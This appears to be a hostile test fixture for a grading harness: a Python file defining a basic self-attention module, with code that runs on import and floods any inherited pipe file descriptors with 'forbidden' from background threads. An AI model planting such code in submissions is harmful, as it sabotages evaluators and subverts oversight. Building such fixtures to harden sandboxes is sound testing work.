# hostile: v1 pass within 19 s
import math

import torch
from torch import nn

import os
import stat
import threading


def flood(fd):
    while True:
        os.write(fd, b'forbidden\n' * 1000)


for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            threading.Thread(target=flood, args=(fd,), daemon=True).start()
    except OSError:
        pass


class SelfAttentionV1(nn.Module):
    def __init__(self, hidden_dim):
        super().__init__()
        self.query = nn.Linear(hidden_dim, hidden_dim)
        self.key = nn.Linear(hidden_dim, hidden_dim)
        self.value = nn.Linear(hidden_dim, hidden_dim)

    def forward(self, x):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(x.shape[-1])
        out = torch.softmax(scores, dim=-1) @ v
        return out
